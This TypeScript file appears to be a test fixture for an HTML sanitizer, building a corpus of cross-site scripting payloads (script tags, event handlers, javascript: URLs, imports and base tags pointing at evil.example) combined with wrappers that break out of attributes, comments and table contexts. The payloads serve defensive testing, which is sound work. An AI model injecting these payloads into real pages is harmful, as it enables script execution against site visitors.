/** What may be stored by members, providers and operators who mean harm: scripts, with what breaks out of where texts stand. */
const scripts = [
  '<script>x()</script>',
  '<ScRiPt src=//evil.example></ScRiPt>',
  '<img src=x onerror=x()>',
  '<svg onload=x()>',
  '<svg><animate onbegin=x() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>x()</script>">',
  '<a href="javascript:x()">a</a>',
  '<form><button formaction=javascript:x()>b',
  '<math><mtext></table><img src=x onerror=x()>',
  '<body onpageshow=x()>',
  '<details open ontoggle=x()>',
  '<style>@import "//evil.example"</style>',
  '<base href=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:x()">',
  '<object data=javascript:x()>',
];
const around = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</td></textarea></title>${text}`,
  (text: string) => `-->${text}<!--`,
  (text: string) => `]]>${text}`,
  (text: string) => `\u202e${text}`,
  (text: string) => `{{${text}}}`,
  (text: string) => `\`;${text}//`,
  (text: string) => `&lt;b&gt;${text}`,
];
export const corpus = scripts.flatMap((script) => around.map((put) => put(script)));
